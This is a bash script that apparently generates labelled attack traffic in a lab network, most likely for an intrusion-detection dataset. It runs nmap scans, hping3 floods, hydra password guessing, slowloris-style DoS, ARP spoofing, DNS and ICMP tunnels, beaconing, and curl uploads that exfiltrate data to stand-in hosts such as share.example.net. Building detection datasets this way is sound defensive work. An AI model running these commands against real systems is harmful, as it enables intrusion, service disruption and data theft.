# shellcheck shell=bash
# The attacks. Each function first lets the network live for a while, then
# attacks, and tells with label() which frames are whose. Sourced by run.sh.

LEAD=12 # seconds of benign traffic before an attack

# label CLASS TYPE FILTER: frames that match the display filter are of CLASS
# (attack, response or ignore). The first label that matches a frame counts.
label() {
  printf '%s\t%s\t%s\n' "$@" >>"$DIR/labels"
}

# between TYPE FROM TO: all frames from one address to the other are the
# attack, those back the response; the address resolution around is neither.
between() {
  label attack "$1" "ip.src==$2 && ip.dst==$3"
  label response "$1" "ip.src==$3 && ip.dst==$2"
  label ignore "$1" "arp && (arp.src.proto_ipv4==$2 || arp.dst.proto_ipv4==$2)"
}

# attack COMMAND...: benign traffic alone, then with the command.
attack() {
  chatter "$LEAD"
  chatter 6 &
  local people=$!
  "$@"
  wait "$people"
}

scan() {
  attack on atk nmap -n -Pn --disable-arp-ping "$@" >"$DIR/nmap.log"
  between port_scan "${IP[atk]}" "${IP[srv]}"
}

port_scan_syn() { scan -sS -p 1-300 "${IP[srv]}"; }
port_scan_connect() { scan -sT -p 1-200 "${IP[srv]}"; }
port_scan_fin() { scan -sF -p 1-150 "${IP[srv]}"; }
port_scan_null() { scan -sN -p 1-150 "${IP[srv]}"; }
port_scan_xmas() { scan -sX -p 1-150 "${IP[srv]}"; }
port_scan_ack() { scan -sA -p 1-150 "${IP[srv]}"; }
port_scan_udp() { scan -sU -p 1-40 "${IP[srv]}"; }
port_scan_slow() { scan -sS -p 1-110 --scan-delay 1s --max-retries 0 "${IP[srv]}"; }
port_scan_vlan() { scan -sS -p 1-200 "${IP[srv]}"; }
port_scan_mirror_twice() { scan -sS -p 1-100 "${IP[srv]}"; }

port_scan_ipv6() {
  attack on atk nmap -6 -n -Pn -sS -p 1-150 "${IP6[srv]}" >"$DIR/nmap.log"
  label attack port_scan "ipv6.src==${IP6[atk]} && ipv6.dst==${IP6[srv]} && tcp"
  label response port_scan "ipv6.src==${IP6[srv]} && ipv6.dst==${IP6[atk]} && tcp"
  label ignore port_scan "icmpv6 && eth.addr==${MAC[atk]}"
}

# Who is there? Asked by ARP, as nmap does in its own network.
host_scan_arp() {
  attack on atk nmap -n -sn 192.168.40.0/24 >"$DIR/nmap.log"
  label attack host_scan "arp.opcode==1 && eth.src==${MAC[atk]}"
  label response host_scan "arp.opcode==2 && eth.dst==${MAC[atk]}"
  label ignore host_scan "eth.addr==${MAC[atk]}"
}

# One port of a whole network, from a client, through the router.
host_scan_port() {
  attack on c2 nmap -n -Pn -sS -p 445 --max-retries 1 203.0.113.0/24 >"$DIR/nmap.log"
  label attack host_scan "ip.src==${IP[c2]} && tcp.dstport==445"
  label response host_scan "ip.dst==${IP[c2]} && tcp.srcport==445"
}

flood_syn() {
  on srv sysctl -qw net.ipv4.tcp_synack_retries=1 # keeps the capture small
  attack on out hping3 -q -n -S -p 80 --rand-source -i u1000 -c 900 "${IP[srv]}" >"$DIR/hping3.log" 2>&1
  # Source ports of hping3 count up from a random one: the window size of its
  # SYNs, 512, and the lack of TCP options tell them from all others.
  label attack flood "ip.dst==${IP[srv]} && tcp.dstport==80 && tcp.flags==2 && tcp.window_size_value==512 && tcp.hdr_len==20"
  label response flood "ip.src==${IP[srv]} && tcp.srcport==80 && !(ip.dst==192.168.40.0/24)"
  label ignore flood "ip.addr==${IP[srv]} && tcp.port==80" # no victim can tell these apart
}

flood_udp() {
  attack on atk hping3 -q -n --udp -p 53 -d 32 -i u700 -c 1200 "${IP[srv]}" >"$DIR/hping3.log" 2>&1
  between flood "${IP[atk]}" "${IP[srv]}"
}

flood_icmp() {
  attack on atk hping3 -q -n --icmp -d 16 -i u800 -c 800 "${IP[srv]}" >"$DIR/hping3.log" 2>&1
  between flood "${IP[atk]}" "${IP[srv]}"
  label ignore flood "ip.addr==${IP[srv]} && icmp"
}

# words N: a list of N wrong passwords.
words() {
  local i
  for ((i = 0; i < $1; i++)); do echo "summer20$i"; done >"$DIR/words"
}

guess() {
  attack on atk timeout 90 hydra -I -q -l alice -P "$DIR/words" "$@" >"$DIR/hydra.log" 2>&1
  between brute_force "${IP[atk]}" "${IP[srv]}"
}

brute_force_ssh() {
  words 36
  guess -t 4 "ssh://${IP[srv]}"
}

brute_force_ftp() {
  words 30
  guess -t 4 "ftp://${IP[srv]}"
}

brute_force_postgres() {
  start_postgres
  words 24
  guess -t 4 "postgres://${IP[srv]}/template1"
}

brute_force_http_basic() {
  words 40
  guess -t 2 "http-get://${IP[srv]}/admin/"
}

brute_force_http_form() {
  words 30
  guess -t 2 "http-post-form://${IP[srv]}/login:user=^USER^&pass=^PASS^:F=wrong"
}

slow_dos() {
  attack on atk slowhttptest -c 40 -H -i 10 -r 15 -l 60 -x 12 -u "http://${IP[srv]}/" >"$DIR/slowhttptest.log" 2>&1
  between slow_dos "${IP[atk]}" "${IP[srv]}"
}

# leak URL: 11 MB to a host outside within seconds.
leak() {
  head -c 11000000 /dev/urandom >"$DIR/secret"
  attack on c2 curl -sk -m 60 -o /dev/null -H 'Expect:' -F "file=@$DIR/secret" "$1/upload"
}

exfiltration_http() {
  leak http://share.example.net
  label attack exfiltration "ip.src==${IP[c2]} && ip.dst==${IP[c2c]}"
  label response exfiltration "ip.src==${IP[c2c]} && ip.dst==${IP[c2]}"
}

exfiltration_https() {
  leak https://share.example.net
  label attack exfiltration "ip.src==${IP[c2]} && ip.dst==${IP[c2c]}"
  label response exfiltration "ip.src==${IP[c2c]} && ip.dst==${IP[c2]}"
}

dns_tunnel() {
  on out iodined -f -c -P secret -l "${IP[dns]}" 10.99.0.1/24 t.example.net >"$DIR/iodined.log" 2>&1 &
  sleep 1
  chatter "$LEAD"
  on c2 iodine -f -r -P secret -T TXT "${IP[gw]}" t.example.net >"$DIR/iodine.log" 2>&1 &
  sleep 12
  on c2 ping -q -I dns0 -c 5 -i 0.5 10.99.0.1 >"$DIR/ping.log"
  on c2 curl -s -m 40 -o /dev/null -w '%{http_code} %{size_download}\n' http://10.99.0.1/{app.js,photo.jpg,logo.png,index.html} -o /dev/null -o /dev/null -o /dev/null >"$DIR/curl.log"
  chatter 4
  label attack dns_tunnel "ip.src==${IP[c2]} && dns.qry.name contains \"t.example.net\""
  label response dns_tunnel "ip.dst==${IP[c2]} && dns.qry.name contains \"t.example.net\""
}

icmp_tunnel() {
  on out ptunnel-ng >"$DIR/ptunnel-out.log" 2>&1 &
  on c2 ptunnel-ng -p "${IP[out]}" -l 8022 -r127.0.0.1 -R80 >"$DIR/ptunnel-c2.log" 2>&1 &
  chatter "$LEAD"
  local page
  for page in index.html photo.jpg archive.zip logo.png archive.zip; do
    on c2 curl -s -m 30 -o /dev/null -w '%{http_code} %{size_download}\n' "http://127.0.0.1:8022/$page" >>"$DIR/curl.log"
    sleep 2
  done
  on c2 curl -s -m 30 -o /dev/null -w '%{http_code} %{size_upload}\n' -H 'Expect:' \
    -F "file=@$WORK/site/archive.zip" http://127.0.0.1:8022/upload >>"$DIR/curl.log"
  label attack icmp_tunnel "icmp && ip.src==${IP[c2]} && ip.dst==${IP[out]}"
  label response icmp_tunnel "icmp && ip.src==${IP[out]} && ip.dst==${IP[c2]}"
}

beacon() {
  local i
  chatter "$LEAD"
  for ((i = 0; i < 30; i++)); do
    on c2 curl -s -m 5 -A update -o /dev/null http://update.example.net/beat
    if ((i % 6 == 3)); then chatter 3 & fi
    sleep 9
    pause 6 13
  done
  label attack beacon "ip.src==${IP[c2]} && ip.dst==${IP[c2c]}"
  label response beacon "ip.src==${IP[c2c]} && ip.dst==${IP[c2]}"
}

arp_spoof() {
  on atk sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
  chatter "$LEAD"
  on atk timeout 24 arpspoof -i eth0 -t "${IP[c1]}" -r "${IP[gw]}" >"$DIR/arpspoof.log" 2>&1 &
  local pid=$!
  chatter 20
  wait "$pid"
  label attack arp_spoof "arp.opcode==2 && arp.src.hw_mac==${MAC[atk]} && !(arp.src.proto_ipv4==${IP[atk]})"
  label ignore arp_spoof "eth.addr==${MAC[atk]}"
}

# A working day with a break-in: a scan, then another machine guesses
# passwords and sends 11 MB away.
demo() {
  office 130 &
  local people=$!
  sleep 40
  on atk nmap -n -Pn -sS -p 1-250 "${IP[srv]}" >"$DIR/nmap.log"
  sleep 12
  words 24
  on c2 timeout 60 hydra -I -q -l alice -t 4 -P "$DIR/words" "ssh://${IP[srv]}" >"$DIR/hydra.log" 2>&1
  head -c 11000000 /dev/urandom >"$DIR/secret"
  sleep 8
  on c2 curl -sk -m 60 -o /dev/null -H 'Expect:' -F "file=@$DIR/secret" https://share.example.net/upload
  wait "$people"
  between port_scan "${IP[atk]}" "${IP[srv]}"
  label attack brute_force "ip.src==${IP[c2]} && ip.dst==${IP[srv]} && tcp.port==22"
  label response brute_force "ip.src==${IP[srv]} && ip.dst==${IP[c2]} && tcp.port==22"
  label attack exfiltration "ip.src==${IP[c2]} && ip.dst==${IP[c2c]}"
  label response exfiltration "ip.src==${IP[c2c]} && ip.dst==${IP[c2]}"
}
